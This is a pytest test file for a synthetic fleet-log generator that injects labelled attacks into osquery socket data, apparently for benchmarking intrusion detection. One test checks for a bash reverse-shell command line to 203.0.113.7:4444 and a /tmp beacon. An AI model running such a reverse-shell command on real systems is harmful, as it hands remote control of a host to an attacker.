"""`rarenet simulate`: a deterministic, realistic SYNTHETIC fleet log and its labels."""

from __future__ import annotations

import gzip
import io
import re
from collections import Counter, defaultdict
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import CliRunner

from rarenet.baseline.cli.simulate_cmd import simulate
from rarenet.baseline.errors import InputError
from rarenet.baseline.simulate import (
    Label,
    SimulationSpec,
    default_labels_path,
    engine,
    read_labels,
    simulate_to_path,
    write_simulation,
)
from rarenet.baseline.simulate.attacks import TECHNIQUES, attack_paths, attack_window
from rarenet.baseline.simulate.catalogue import ATTACKER_IPS
from rarenet.baseline.simulate.delivery import arrival, read_delivery
from rarenet.baseline.simulate.fleet import Fleet, build_fleet
from rarenet.baseline.simulate.render import FLEET_MAX_DETAILS, QUERY_NAME, calendar_time
from rarenet.baseline.simulate.sockets import COLUMNS
from rarenet.baseline.units import parse_time

SMALL = SimulationSpec(hosts=20, days=2, attacks=True)
HOUR = 3600
CALENDAR = re.compile(
    r"^(Mon|Tue|Wed|Thu|Fri|Sat|Sun) [A-Z][a-z]{2} [ 123]\d \d\d:\d\d:\d\d \d{4} UTC$"
)
ENVELOPE = {"name", "calendarTime", "unixTime", "epoch", "counter", "numerics", "decorations"}


@dataclass(frozen=True)
class Poll:
    """One parsed result object."""

    host: str
    unix: int
    counter: int
    batch: bool
    rows: list[dict[str, str]]
    doc: dict[str, Any]


@dataclass(frozen=True)
class Run:
    spec: SimulationSpec
    fleet: Fleet
    raw: bytes
    polls: list[Poll]
    labels: list[Label]

    def rows(self) -> Iterator[tuple[Poll, dict[str, str]]]:
        for poll in self.polls:
            for row in poll.rows:
                yield poll, row


def parse_result(doc: dict[str, Any]) -> Poll:
    host: str = doc["hostIdentifier"] if "hostIdentifier" in doc else doc["hostname"]
    batch = "diffResults" in doc
    rows = doc["diffResults"]["added"] if batch else [doc["columns"]]
    return Poll(host, doc["unixTime"], doc["counter"], batch, rows, doc)


def generate(spec: SimulationSpec) -> tuple[bytes, bytes]:
    out, labels = io.BytesIO(), io.BytesIO()
    write_simulation(spec, out, labels)
    return out.getvalue(), labels.getvalue()


def run_of(spec: SimulationSpec, tmp: Path) -> Run:
    raw, labels = generate(spec)
    (tmp / "labels.jsonl").write_bytes(labels)
    polls = [parse_result(orjson.loads(line)) for line in raw.splitlines()]
    return Run(spec, build_fleet(spec), raw, polls, read_labels(tmp / "labels.jsonl"))


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return run_of(SMALL, tmp_path_factory.mktemp("attacked"))


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Run:
    spec = SimulationSpec(hosts=20, days=2, attacks=False)
    return run_of(spec, tmp_path_factory.mktemp("benign"))


# --- determinism ---------------------------------------------------------------------


def test_same_spec_gives_the_same_bytes_and_another_seed_does_not() -> None:
    spec = SimulationSpec(hosts=8, days=0.5, attacks=True)
    first, second = generate(spec), generate(spec)
    assert first == second
    other = generate(SimulationSpec(hosts=8, days=0.5, attacks=True, seed=2))
    assert other[0] != first[0]
    assert other[1] != first[1]


def test_default_start_is_a_monday_and_days_may_be_fractional() -> None:
    raw, _ = generate(SimulationSpec(hosts=3, days=0.25))
    first, last = orjson.loads(raw.splitlines()[0]), orjson.loads(raw.splitlines()[-1])
    assert first["calendarTime"].startswith("Mon Jan  5 00:0")
    assert parse_time("2026-01-05T00:00:00Z") <= first["unixTime"]
    assert last["unixTime"] < parse_time("2026-01-05T06:00:00Z")


# --- shapes --------------------------------------------------------------------------


def test_every_line_is_an_osquery_result_object(attacked: Run) -> None:
    for poll in attacked.polls:
        doc = poll.doc
        assert doc.keys() >= ENVELOPE
        assert doc["name"] == QUERY_NAME
        assert doc["epoch"] == 0 and doc["numerics"] is False
        assert doc["calendarTime"] == calendar_time(doc["unixTime"])
        assert CALENDAR.match(doc["calendarTime"]), doc["calendarTime"]
        assert ("hostIdentifier" in doc) != ("hostname" in doc)
        assert doc["decorations"]["hostname"] == poll.host
        assert re.fullmatch(r"[0-9a-f-]{36}", doc["decorations"]["host_uuid"])
        if poll.batch:
            assert doc["diffResults"]["removed"] == [] and poll.rows
            assert "action" not in doc and "columns" not in doc
        else:
            assert doc["action"] == "added"


def test_batch_and_legacy_hosts_are_a_small_share(attacked: Run) -> None:
    hosts = {h.name: h for h in attacked.fleet.hosts}
    batch = {p.host for p in attacked.polls if p.batch}
    legacy = {p.host for p in attacked.polls if "hostname" in p.doc}
    assert batch == {h for h, host in hosts.items() if host.batch}
    assert 1 <= len(batch) <= 3
    assert legacy == {h for h, host in hosts.items() if host.legacy}
    assert len(legacy) == 1


def test_columns_are_all_twenty_strings(attacked: Run) -> None:
    families: Counter[str] = Counter()
    for _, row in attacked.rows():
        assert tuple(row) == COLUMNS
        assert all(isinstance(value, str) for value in row.values())
        assert row["family"] in ("2", "10") and row["protocol"] in ("6", "17")
        assert row["state"] == ("ESTABLISHED" if row["protocol"] == "6" else "")
        assert row["direction"] in ("inbound", "outbound")
        assert (":" in row["remote_address"]) == (row["family"] == "10")
        assert (":" in row["local_address"]) == (row["family"] == "10")
        assert int(row["pid"]) > 0 and int(row["socket"]) > 0 and int(row["fd"]) >= 3
        assert 0 < int(row["local_port"]) < 65536 and 0 < int(row["remote_port"]) < 65536
        assert row["net_namespace"].startswith("40265")
        families[row["family"]] += 1
    assert families["10"] > 0


def test_lines_are_in_time_order_within_the_period(attacked: Run) -> None:
    times = [poll.unix for poll in attacked.polls]
    assert times == sorted(times)
    assert SMALL.start <= times[0] and times[-1] < SMALL.end


def test_counters_count_polls_with_data_per_host(attacked: Run) -> None:
    seen: dict[str, tuple[int, int]] = {}  # host → (last poll time, its counter)
    for poll in attacked.polls:
        if poll.host not in seen:
            assert poll.counter == 0
        else:
            last_time, last_counter = seen[poll.host]
            expected = last_counter if poll.unix == last_time else last_counter + 1
            assert poll.counter == expected
        seen[poll.host] = (poll.unix, poll.counter)


def test_each_host_polls_once_a_minute_at_its_own_second(attacked: Run) -> None:
    offsets = defaultdict(set)
    for poll in attacked.polls:
        offsets[poll.host].add(poll.unix % 60)
    assert all(len(seconds) == 1 for seconds in offsets.values())
    assert len({next(iter(s)) for s in offsets.values()}) > 5


def test_fleet_format_groups_results_by_minute() -> None:
    spec = SimulationSpec(hosts=20, days=0.5, format="fleet")
    raw, _ = generate(spec)
    osquery, _ = generate(SimulationSpec(hosts=20, days=0.5))
    rows, last = 0, ""
    for line in raw.splitlines():
        body = orjson.loads(line)
        assert set(body) == {"timestamp", "details"}
        assert 1 <= len(body["details"]) <= FLEET_MAX_DETAILS
        minutes = {doc["unixTime"] // 60 for doc in body["details"]}
        assert len(minutes) == 1
        assert parse_time(body["timestamp"]) >= max(d["unixTime"] for d in body["details"])
        assert body["timestamp"] >= last
        last = body["timestamp"]
        rows += sum(len(parse_result(doc).rows) for doc in body["details"])
    assert rows == sum(len(parse_result(orjson.loads(x)).rows) for x in osquery.splitlines())


# --- fleet realism -------------------------------------------------------------------


def test_roles_and_hostnames(attacked: Run) -> None:
    roles = Counter(host.role for host in attacked.fleet.hosts)
    assert roles == {"web": 6, "db": 2, "ci": 3, "dev": 5, "bastion": 1, "cache": 1, "misc": 2}
    names = {poll.host for poll in attacked.polls}
    assert names == {host.name for host in attacked.fleet.hosts}
    for pattern in (r"web-\d{3}", r"db-\d{3}", r"ci-runner-\d\d", r"dev-[a-z]+", r"bastion-\d\d"):
        assert any(re.fullmatch(pattern, name) for name in names), pattern
    assert len({host.uuid for host in attacked.fleet.hosts}) == 20


def test_volume_is_realistic(attacked: Run) -> None:
    per_host_day = sum(len(p.rows) for p in attacked.polls) / SMALL.hosts / SMALL.days
    assert 150 <= per_host_day <= 600


def test_role_routines(benign: Run) -> None:
    roles = {host.name: host.role for host in benign.fleet.hosts}
    seen: dict[str, set[str]] = defaultdict(set)
    for poll, row in benign.rows():
        seen[roles[poll.host]].add(row["name"])
    assert {"nginx", "python3"} <= seen["web"]
    assert {"postgres", "bash", "restic"} <= seen["db"]
    assert {"git-remote-http", "gitlab-runner", "java"} <= seen["ci"]
    assert {"firefox", "slack", "code", "ssh"} <= seen["dev"]
    assert "bash" in seen["db"] and all("bash" not in seen[r] for r in roles.values() if r != "db")


def test_inbound_rows_are_server_ports(benign: Run) -> None:
    inbound = Counter(
        (r["name"], r["local_port"]) for _, r in benign.rows() if r["direction"] == "inbound"
    )
    assert {
        ("nginx", "443"),
        ("postgres", "5432"),
        ("node_exporter", "9100"),
        ("sshd", "22"),
    } <= set(inbound)


def test_filter_fodder_is_present_but_small(benign: Run) -> None:
    rows = [row for _, row in benign.rows()]
    loopback = [
        r for r in rows if r["remote_address"].startswith("127.") or r["remote_address"] == "::1"
    ]
    osqueryd = [r for r in rows if r["name"] == "osqueryd"]
    assert any(r["remote_address"] == "127.0.0.53" for r in loopback)
    assert 0 < len(loopback) < 0.05 * len(rows)
    assert 0 < len(osqueryd) < 0.05 * len(rows)


def test_daemon_pids_are_stable(benign: Run) -> None:
    pids = defaultdict(set)
    for poll, row in benign.rows():
        if row["name"] == "node_exporter":
            pids[poll.host].add(row["pid"])
    assert pids and all(len(found) <= 3 for found in pids.values())


def test_agent_rollout_reaches_the_fleet_within_hours(benign: Run) -> None:
    rollout = benign.fleet.agent_rollout
    assert rollout is not None
    present = {h.name for h in benign.fleet.hosts if h.join <= rollout}
    first: dict[str, int] = {}
    for poll, row in benign.rows():
        if row["path"] == "/opt/acme-agent/bin/acme-agent":
            first.setdefault(poll.host, poll.unix)
    assert min(first.values()) >= rollout
    reached = {host for host in present if first.get(host, 2**62) <= rollout + 4 * HOUR}
    assert len(reached) >= 0.9 * len(present)


def test_jdk_upgrade_changes_the_java_path_on_ci(benign: Run) -> None:
    upgrade = {h.name: h.upgrade_at for h in benign.fleet.hosts if h.flavor == "ci"}
    paths = defaultdict(set)
    for poll, row in benign.rows():
        if row["name"] == "java":
            assert poll.host in upgrade
            old = "java-17" in row["path"]
            assert old == (poll.unix < upgrade[poll.host]), (poll.host, row["path"])
            paths[old].add(poll.host)
    assert paths[True] and paths[False]


def test_joining_hosts_start_late_with_counter_zero(benign: Run) -> None:
    period = SMALL.end - SMALL.start
    joiners = [h for h in benign.fleet.hosts if h.join > SMALL.start]
    assert len(joiners) == 2
    for host in joiners:
        assert host.join >= SMALL.start + 0.1 * period
        polls = [p for p in benign.polls if p.host == host.name]
        assert polls[0].counter == 0
        assert host.join <= polls[0].unix < host.join + 60
        first = [row for poll in polls if poll.unix == polls[0].unix for row in poll.rows]
        assert any(row["name"] == "osqueryd" for row in first)  # sockets open when it starts


# --- attacks and labels --------------------------------------------------------------


def test_attacks_are_exactly_the_labelled_techniques(attacked: Run) -> None:
    labels = attacked.labels
    assert sorted(label.technique for label in labels) == sorted(t.id for t in TECHNIQUES)
    assert len({label.host for label in labels}) == len(labels)  # one host each
    earliest, _ = attack_window(attacked.fleet)
    assert earliest >= SMALL.start + 6 * HOUR
    labelled = {(label.host, label.path) for label in labels}
    for poll, row in attacked.rows():
        if row["remote_address"] in ATTACKER_IPS or row["path"] in attack_paths():
            assert (poll.host, row["path"]) in labelled
    for label in labels:
        times = [
            poll.unix
            for poll, row in attacked.rows()
            if poll.host == label.host
            and row["path"] == label.path
            and row["remote_address"] in ATTACKER_IPS
        ]
        assert times, label
        assert earliest <= label.start <= min(times) and max(times) <= label.end


def test_attacks_avoid_hosts_where_the_binary_is_routine(attacked: Run) -> None:
    roles = {host.name: host.role for host in attacked.fleet.hosts}
    bash = next(label for label in attacked.labels if label.technique == "reverse-shell-bash")
    assert roles[bash.host] == "web"
    shell = [
        row for poll, row in attacked.rows() if poll.host == bash.host and row["name"] == "bash"
    ]
    assert shell[0]["cmdline"] == "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    assert shell[0]["username"] == "www-data" and shell[0]["remote_port"] == "4444"
    beacon = [row for _, row in attacked.rows() if row["path"] == "/tmp/.x/beacon"]
    assert len(beacon) == 25 and {r["remote_address"] for r in beacon} == {"203.0.113.99"}


def test_without_attacks_labels_are_empty_and_no_attack_appears(benign: Run) -> None:
    assert benign.labels == []
    for _, row in benign.rows():
        assert row["remote_address"] not in ATTACKER_IPS
        assert row["path"] not in attack_paths()


def test_attacks_add_rows_without_changing_benign_ones(attacked: Run, benign: Run) -> None:
    def keyed(run: Run) -> set[tuple[str, int, bytes]]:
        return {(poll.host, poll.unix, orjson.dumps(row)) for poll, row in run.rows()}

    with_attacks, without = keyed(attacked), keyed(benign)
    assert without <= with_attacks
    assert 11 <= len(with_attacks - without) <= 100


def test_attacks_need_enough_history() -> None:
    with pytest.raises(InputError, match="--attacks needs"):
        write_simulation(SimulationSpec(hosts=5, days=0.25, attacks=True), io.BytesIO(), None)


def test_read_labels_names_the_bad_line(tmp_path: Path) -> None:
    path = tmp_path / "labels.jsonl"
    good = orjson.dumps(Label("web-001", "/tmp/x", "x", 10, 20).to_json()).decode()
    path.write_text(f'{good}\n\n{{"hostIdentifier": "web-001", "from": 1}}\n')
    with pytest.raises(InputError) as caught:
        read_labels(path)
    assert caught.value.where == f"{path}:3"
    path.write_text(f"{good}\n")
    assert read_labels(path) == [Label("web-001", "/tmp/x", "x", 10, 20)]


# --- files and the command line ------------------------------------------------------


def test_default_labels_path() -> None:
    assert default_labels_path("out/fleet.log") == Path("out/fleet.labels.jsonl")
    assert default_labels_path("out/fleet.log.gz") == Path("out/fleet.labels.jsonl")
    assert default_labels_path("my.fleet.log") == Path("my.fleet.labels.jsonl")
    assert default_labels_path("fleet") == Path("fleet.labels.jsonl")


def test_gzip_output_is_reproducible(tmp_path: Path) -> None:
    spec = SimulationSpec(hosts=5, days=0.5, attacks=True)
    simulate_to_path(spec, tmp_path / "a" / "fleet.log.gz", tmp_path / "a.jsonl")
    simulate_to_path(spec, tmp_path / "b" / "fleet.log.gz", None)
    a, b = (
        (tmp_path / "a" / "fleet.log.gz").read_bytes(),
        (tmp_path / "b" / "fleet.log.gz").read_bytes(),
    )
    assert a == b
    assert gzip.decompress(a) == generate(spec)[0]
    assert not (tmp_path / "b.jsonl").exists() and len(read_labels(tmp_path / "a.jsonl")) == 11
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["fleet.log.gz"]


class BrokenPipe:
    def write(self, data: bytes) -> int:
        raise BrokenPipeError("reader went away")


def test_write_errors_surface_and_leave_no_partial_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(BrokenPipeError):
        write_simulation(SimulationSpec(hosts=3, days=0.2), BrokenPipe(), None)
    (tmp_path / "labels").mkdir()
    with pytest.raises(InputError, match="is a directory"):
        simulate_to_path(SimulationSpec(hosts=3, days=0.2), tmp_path / "f.log", tmp_path / "labels")

    def interrupted(spec: SimulationSpec, out: Any, labels: Any, arrivals: Any = None) -> None:
        out.write(b"half a line")
        raise KeyboardInterrupt

    monkeypatch.setattr(engine, "write_simulation", interrupted)
    with pytest.raises(KeyboardInterrupt):
        simulate_to_path(SimulationSpec(hosts=3, days=0.2), tmp_path / "f.log", tmp_path / "l")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["labels"]


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(simulate, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def test_cli_writes_gzip_log_and_default_labels(tmp_path: Path) -> None:
    out = tmp_path / "run" / "fleet.log.gz"
    code, stdout, _ = invoke(
        "--hosts", "6", "--days", "0.5", "--attacks", "--out", str(out), "--json"
    )
    assert code == 0
    report = orjson.loads(stdout)
    assert set(report) == {
        "hosts",
        "days",
        "lines",
        "rows",
        "attacks",
        "out",
        "labels",
        "start",
        "end",
    }
    assert report["hosts"] == 6 and report["attacks"] == 11 and report["days"] == 0.5
    assert report["labels"] == str(tmp_path / "run" / "fleet.labels.jsonl")
    assert report["end"] - report["start"] == 12 * HOUR
    assert len(gzip.decompress(out.read_bytes()).splitlines()) == report["lines"]
    assert len(read_labels(report["labels"])) == 11


def test_cli_summary_line_and_empty_labels(tmp_path: Path) -> None:
    code, stdout, _ = invoke("--hosts", "2", "--days", "0.1", "--out", str(tmp_path / "f.log"))
    assert code == 0
    assert "SYNTHETIC" in stdout and "2 hosts" in stdout and stdout.count("\n") == 1
    assert (tmp_path / "f.labels.jsonl").read_bytes() == b""


def test_cli_out_dash_writes_the_log_to_stdout(tmp_path: Path) -> None:
    code, stdout, stderr = invoke(
        "--hosts", "2", "--days", "0.05", "--start", "1767571200", "--out", "-"
    )
    assert code == 0
    assert all(orjson.loads(line)["name"] == QUERY_NAME for line in stdout.splitlines())
    assert "SYNTHETIC" in stderr
    assert not list(tmp_path.iterdir())  # no labels unless --labels is given


def test_cli_help_says_synthetic() -> None:
    code, stdout, _ = invoke("--help")
    assert code == 0 and "SYNTHETIC" in stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--hosts", "0", "--days", "1"], "--hosts must be between 1"),
        (["--hosts", "3", "--days", "0"], "--days must be more than 0"),
        (["--hosts", "3", "--days", "1", "--start", "soon"], "--start"),
    ],
)
def test_cli_bad_arguments_exit_2(tmp_path: Path, args: list[str], message: str) -> None:
    code, _, stderr = invoke(*args, "--out", str(tmp_path / "f.log"))
    assert code == 2
    assert message in stderr
    assert not (tmp_path / "f.log").exists()


def test_arrivals_delay_laptops_half_the_attacks_and_two_outages(tmp_path: Path) -> None:
    log, labels, arrivals = tmp_path / "f.log", tmp_path / "f.labels.jsonl", tmp_path / "a.jsonl"
    code, _, err = invoke(
        "--hosts", "30", "--days", "3", "--scenarios", "all", "--seed", "7",
        "--out", str(log), "--arrivals", str(arrivals),
    )  # fmt: skip
    assert code == 0, err
    delays = read_delivery(arrivals)
    attacks = read_labels(labels)
    whys = [d.why for d in delays]
    assert whys.count("rarenet outage") == 1 and whys.count("Fleet outage") == 1
    assert all(d.host is None for d in delays if "outage" in d.why)
    assert all(d.host.startswith("dev-") for d in delays if d.why == "laptop offline")  # type: ignore[union-attr]
    covered = [
        a for a in attacks
        if any(d.host == a.host and d.start <= a.start and a.end < d.end for d in delays)
    ]  # fmt: skip
    assert len(covered) >= len(attacks) // 2
    for a in covered:
        late = arrival(delays, a.host, a.start) - a.start
        assert 3600 <= late <= 12 * 3600, (a, late)
    assert arrival(delays, "nobody", 0) == 0  # no delay: it arrives at its data time
    again = tmp_path / "b.jsonl"
    invoke(
        "--hosts", "30", "--days", "3", "--scenarios", "all", "--seed", "7",
        "--out", str(tmp_path / "g.log"), "--arrivals", str(again),
    )  # fmt: skip
    assert again.read_bytes() == arrivals.read_bytes()  # deterministic
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"host": null, "from": 1, "to": 2, "arrives": 3}\n{"host": 5}\n')
    with pytest.raises(InputError, match="bad delivery line") as caught:
        read_delivery(bad)
    assert caught.value.where == f"{bad}:2"
